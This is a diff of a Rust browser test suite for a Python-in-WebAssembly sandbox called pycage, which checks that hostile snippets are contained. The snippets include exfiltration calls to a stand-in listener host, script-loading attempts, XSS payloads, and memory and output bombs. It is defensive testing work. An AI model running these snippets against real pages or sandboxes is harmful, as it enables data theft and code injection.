@@ -2,7 +2,9 @@
 //! isolation. Each one: the page is unaffected, nothing leaks (the listener
 //! records no request, the planted secrets never appear), and the next run
 //! works (tests/common/attack.rs).
-use wasm_bindgen::JsValue;
+// The test scripts the host page itself (a page may eval; pycage may not).
+#![allow(clippy::disallowed_methods)]
+use pycage::{Execution, ImageMime, MimeValue, Status};
 use wasm_bindgen_test::*;
 mod common;
 use common::attack::*;
@@ -10,13 +12,18 @@ use common::*;
 
 wasm_bindgen_test_configure!(run_in_browser);
 
+/// The raised exception's class name, if the run raised.
+fn error_kind(ex: &Execution) -> Option<&str> {
+    ex.error.as_ref().map(|error| error.kind.as_str())
+}
+
 #[wasm_bindgen_test]
 async fn a01_fetch_same_origin_secret_fails() {
     let ex = attack(
         "import js\nr = await js.fetch('/tests/fixtures/secret.json')\nprint(await r.text())",
     )
     .await;
-    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
     // The native fetch too, past pycage's fetch: blocked by the CSP.
     let ex = attack(
         &"import js\nf = js.WorkerGlobalScope.prototype.fetch\n\
@@ -27,7 +34,7 @@ async fn a01_fetch_same_origin_secret_fails() {
             ),
     )
     .await;
-    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
 }
 
 #[wasm_bindgen_test]
@@ -37,32 +44,31 @@ async fn a02_credentialed_post_to_the_api_never_arrives() {
          await pyfetch('LISTENER/api', method='POST', credentials='include', body='x')",
     )
     .await;
-    assert_eq!(status(&ex), "error");
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex = attack("from pyodide.http import pyfetch\nawait pyfetch('/api', method='POST', credentials='include')").await;
-    assert_eq!(status(&ex), "error");
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
 }
 
 #[wasm_bindgen_test]
 async fn a03_no_cors_exfiltration_never_arrives() {
     let ex = attack("import js\nfrom pyodide.ffi import to_js\nawait js.fetch('LISTENER/exfil?d=x', to_js({'mode': 'no-cors'}))").await;
-    assert_eq!(status(&ex), "error");
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex = attack(
         "import js\nf = js.WorkerGlobalScope.prototype.fetch\nawait f.call(js.self, 'LISTENER/exfil?d=native')",
     )
     .await;
-    assert_eq!(status(&ex), "error");
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex = attack("import js\nprint(js.navigator.sendBeacon('LISTENER/beacon', 'x'))").await;
     assert!(
-        status(&ex) == "error" || text(&ex, "stdout").starts_with("False"),
-        "{}",
-        json(&ex)
+        ex.status == Status::Error || ex.stdout.starts_with("False"),
+        "{ex:?}"
     );
 }
 
 #[wasm_bindgen_test]
 async fn a04_sync_xhr_fails() {
     let ex = attack("import js\nx = js.XMLHttpRequest.new()\nx.open('GET', 'LISTENER/xhr', False)\nx.send()\nprint(x.responseText)").await;
-    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
 }
 
 #[wasm_bindgen_test]
@@ -72,17 +78,17 @@ async fn a05_websocket_and_eventsource_are_blocked() {
         try:\n    es = js.EventSource.new('LISTENER/events')\nexcept Exception as e:\n    print('es blocked', type(e).__name__)\n\
         await asyncio.sleep(0.3)";
     let ex = attack(code).await;
-    assert_eq!(status(&ex), "ok", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Ok, "{ex:?}");
 }
 
 #[wasm_bindgen_test]
 async fn a06_import_scripts_and_dynamic_import_are_blocked() {
     let ex = attack("import js\njs.importScripts('LISTENER/evil.js')").await;
-    assert_eq!(status(&ex), "error");
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex =
         attack("from pyodide.code import run_js\nawait run_js(\"import('LISTENER/evil.mjs')\")")
             .await;
-    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
     assert!(
         out(&ex).contains("EvalError")
             || out(&ex).contains("unsafe-eval")
@@ -95,14 +101,14 @@ async fn a06_import_scripts_and_dynamic_import_are_blocked() {
 #[wasm_bindgen_test]
 async fn a07_host_storage_is_out_of_reach() {
     let ex = attack("import js\nreq = js.indexedDB.open('app')\nprint('opened', req)").await;
-    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex = attack("import js\nc = await js.caches.open('app')\nr = await c.match('/secret-cache')\nprint(await r.text())").await;
-    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex = attack(
         "import js\nprint(getattr(js, 'document', None), getattr(js, 'localStorage', None))",
     )
     .await;
-    assert_eq!(text(&ex, "stdout"), "None None\n");
+    assert_eq!(ex.stdout, "None None\n", "{ex:?}");
 }
 
 #[wasm_bindgen_test]
@@ -113,26 +119,20 @@ async fn a08_forged_results_are_ignored() {
         orig = js.MessagePort.prototype.postMessage\n\
         print('real output')\n'real result'";
     let ex = attack(code).await;
-    assert_eq!(
-        text(&ex, "result.text/plain"),
-        "'real result'",
-        "{}",
-        json(&ex)
-    );
-    assert_eq!(text(&ex, "stdout"), "real output\n");
+    assert_eq!(ex.result_text(), Some("'real result'"), "{ex:?}");
+    assert_eq!(ex.stdout, "real output\n");
 }
 
 #[wasm_bindgen_test]
 async fn a09_post_message_flood_is_bounded() {
     let ex = attack_with(
         "import js\nwhile True:\n    js.postMessage('x' * 10**7)",
-        obj(&[("timeoutMs", 5000.into())]),
+        timeout(5000.0),
     )
     .await;
     assert!(
-        ["crashed", "timeout"].contains(&status(&ex).as_str()),
-        "{}",
-        json(&ex)
+        [Status::Crashed, Status::Timeout].contains(&ex.status),
+        "{ex:?}"
     );
 }
 
@@ -142,13 +142,19 @@ async fn a10_svg_and_html_scripts_never_run_in_the_page() {
     let code = "class X:\n    def _repr_svg_(self): return '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.__pwned=1\"><script>parent.__pwned=2</script></svg>'\n    def _repr_html_(self): return '<script>window.__pwned=3</script><img src=x onerror=\"window.__pwned=4\">'\n\
         display(X())\nX()";
     let ex = attack(code).await;
-    assert_eq!(status(&ex), "ok");
-    let figure = get(&as_array(&get(&ex, "figures")).get(0), "mime");
-    assert_eq!(figure.as_string().unwrap(), "image/svg+xml");
+    assert_eq!(ex.status, Status::Ok, "{ex:?}");
+    assert_eq!(
+        ex.figures.first().map(|figure| figure.mime),
+        Some(ImageMime::Svg),
+        "{ex:?}"
+    );
+    let html = ex
+        .result
+        .as_ref()
+        .and_then(|result| result.get("text/html"));
     assert!(
-        text(&ex, "result.text/html").contains("<script>"),
-        "HTML comes back as data: {}",
-        json(&ex)
+        matches!(html, Some(MimeValue::Text(html)) if html.contains("<script>")),
+        "HTML comes back as data: {ex:?}"
     );
     sleep(200).await;
     assert_eq!(js_sys::eval("window.__pwned").unwrap().as_f64(), Some(0.0));
@@ -157,59 +163,43 @@ async fn a10_svg_and_html_scripts_never_run_in_the_page() {
 #[wasm_bindgen_test]
 async fn a11_markup_in_stdout_is_plain_text() {
     let ex = attack("print('<img src=x onerror=alert(1)>')").await;
-    assert_eq!(text(&ex, "stdout"), "<img src=x onerror=alert(1)>\n");
+    assert_eq!(ex.stdout, "<img src=x onerror=alert(1)>\n");
 }
 
 #[wasm_bindgen_test]
 async fn a12_output_floods_are_capped() {
-    let ex = attack_with("print('A' * 10**9)", obj(&[("timeoutMs", 20_000.into())])).await;
-    assert!(
-        ["ok", "error"].contains(&status(&ex).as_str()),
-        "{}",
-        json(&ex)
-    );
-    if status(&ex) == "ok" {
-        assert_eq!(get(&ex, "truncated"), JsValue::TRUE);
-        assert_eq!(text(&ex, "stdout").len(), 1 << 20);
+    let ex = attack_with("print('A' * 10**9)", timeout(20_000.0)).await;
+    assert!([Status::Ok, Status::Error].contains(&ex.status), "{ex:?}");
+    if ex.status == Status::Ok {
+        assert!(ex.truncated);
+        assert_eq!(ex.stdout.len(), 1 << 20);
     }
     let ex = attack("for i in range(10**6): print(i)").await;
-    assert_eq!(
-        get(&ex, "truncated"),
-        JsValue::TRUE,
-        "{} {}",
-        status(&ex),
-        text(&ex, "error.message")
-    );
-    assert_eq!(text(&ex, "stdout").len(), 1 << 20);
+    assert!(ex.truncated, "{:?} {}", ex.status, error_text(&ex));
+    assert_eq!(ex.stdout.len(), 1 << 20);
 }
 
 #[wasm_bindgen_test]
 async fn a13_busy_loop_is_stopped_at_its_deadline() {
     let started = now();
-    let ex = attack_with("while True: pass", obj(&[("timeoutMs", 500.into())])).await;
-    assert_eq!(status(&ex), "timeout", "{}", json(&ex));
+    let ex = attack_with("while True: pass", timeout(500.0)).await;
+    assert_eq!(ex.status, Status::Timeout, "{ex:?}");
     assert!(
         // The deadline, at most the interrupt's grace (1 s), and slack.
-        get(&ex, "durationMs").as_f64().unwrap() < 2500.0,
-        "{}",
-        json(&ex)
+        ex.duration_ms < 2500.0,
+        "{ex:?}"
     );
     assert!(now() - started < 20_000.0);
 }
 
 #[wasm_bindgen_test]
 async fn a14_sleep_forever_is_stopped_at_its_deadline() {
-    let ex = attack_with(
-        "import time\ntime.sleep(10**6)",
-        obj(&[("timeoutMs", 500.into())]),
-    )
-    .await;
-    assert_eq!(status(&ex), "timeout", "{}", json(&ex));
+    let ex = attack_with("import time\ntime.sleep(10**6)", timeout(500.0)).await;
+    assert_eq!(ex.status, Status::Timeout, "{ex:?}");
     assert!(
         // The deadline, at most the interrupt's grace (1 s), and slack.
-        get(&ex, "durationMs").as_f64().unwrap() < 2500.0,
-        "{}",
-        json(&ex)
+        ex.duration_ms < 2500.0,
+        "{ex:?}"
     );
 }
 
@@ -217,12 +207,11 @@ async fn a14_sleep_forever_is_stopped_at_its_deadline() {
 async fn a15_atomics_wait_forever_is_stopped() {
     let code =
         "import js\nb = js.Int32Array.new(js.SharedArrayBuffer.new(4))\njs.Atomics.wait(b, 0, 0)";
-    let ex = attack_with(code, obj(&[("timeoutMs", 500.into())])).await;
+    let ex = attack_with(code, timeout(500.0)).await;
     // Without cross-origin isolation in the frame there is no SharedArrayBuffer at all.
     assert!(
-        ["timeout", "error"].contains(&status(&ex).as_str()),
-        "{}",
-        json(&ex)
+        [Status::Timeout, Status::Error].contains(&ex.status),
+        "{ex:?}"
     );
 }
 
@@ -230,20 +219,19 @@ async fn a15_atomics_wait_forever_is_stopped() {
 async fn a16_memory_bomb_is_survived() {
     let ex = attack_with(
         "x = [bytearray(10**8) for _ in range(100)]",
-        obj(&[("timeoutMs", 20_000.into())]),
+        timeout(20_000.0),
     )
     .await;
     assert!(
-        ["error", "crashed", "timeout"].contains(&status(&ex).as_str()),
-        "{}",
-        json(&ex)
+        [Status::Error, Status::Crashed, Status::Timeout].contains(&ex.status),
+        "{ex:?}"
     );
 }
 
 #[wasm_bindgen_test]
 async fn a17_self_close_is_a_crash() {
     let ex = attack("import js\nprint('before')\njs.self.close()").await;
-    assert_eq!(status(&ex), "crashed", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Crashed, "{ex:?}");
 }
 
 #[wasm_bindgen_test]
@@ -254,31 +242,28 @@ async fn a18_a_reset_sandbox_is_clean() {
         "import builtins\nbuiltins.print = lambda *a, **k: None",
     )
     .await;
-    wasm_bindgen_futures::JsFuture::from(sb.reset())
-        .await
-        .unwrap();
+    sb.reset().await.expect("the reset succeeds");
     assert_healthy(&sb).await;
 }
 
 #[wasm_bindgen_test]
 async fn a19_stdout_set_to_none_still_completes() {
     let ex = attack("import sys\nsys.stdout = None\nprint('lost')\n'done'").await;
-    assert_eq!(text(&ex, "result.text/plain"), "'done'");
+    assert_eq!(ex.result_text(), Some("'done'"), "{ex:?}");
 }
 
 #[wasm_bindgen_test]
 async fn a20_exits_are_reported() {
     let ex = attack("raise SystemExit(3)").await;
     assert_eq!(
-        (status(&ex).as_str(), text(&ex, "error.type").as_str()),
-        ("error", "SystemExit"),
-        "{}",
-        json(&ex)
+        (ex.status, error_kind(&ex)),
+        (Status::Error, Some("SystemExit")),
+        "{ex:?}"
     );
     let ex = attack("import sys\nsys.exit()").await;
-    assert_eq!(text(&ex, "error.type"), "SystemExit", "{}", json(&ex));
+    assert_eq!(error_kind(&ex), Some("SystemExit"), "{ex:?}");
     let ex = attack("import os\nos._exit(0)").await;
-    assert_eq!(status(&ex), "crashed", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Crashed, "{ex:?}");
 }
 
 #[wasm_bindgen_test]
@@ -292,10 +277,10 @@ async fn a21_huge_and_countless_figures_are_capped() {
         class Small:\n    def _repr_png_(self): return png(2, 2)\n\
         display(Big())\n\
         for _ in range(10000): display(Small())";
-    let ex = attack_with(code, obj(&[("timeoutMs", 20_000.into())])).await;
-    assert_eq!(status(&ex), "ok", "{}", text(&ex, "error.message"));
-    assert_eq!(as_array(&get(&ex, "figures")).length(), 50);
-    let dropped = json(&get(&ex, "droppedOutputs"));
+    let ex = attack_with(code, timeout(20_000.0)).await;
+    assert_eq!(ex.status, Status::Ok, "{}", error_text(&ex));
+    assert_eq!(ex.figures.len(), 50);
+    let dropped = format!("{:?}", ex.dropped_outputs);
     assert!(
         dropped.contains("maxFigureBytes") && dropped.contains("maxFigures"),
         "{dropped}"
@@ -306,7 +291,7 @@ async fn a21_huge_and_countless_figures_are_capped() {
 async fn a22_micropip_from_an_unlisted_url_is_blocked() {
     let ex =
         attack("import micropip\nawait micropip.install('LISTENER/x-1.0-py3-none-any.whl')").await;
-    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex = attack("import pyodide_js\nawait pyodide_js.loadPackage('LISTENER/x-1.0-py3-none-any.whl')\nimport x").await;
-    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    assert_eq!(ex.status, Status::Error, "{ex:?}");
 }
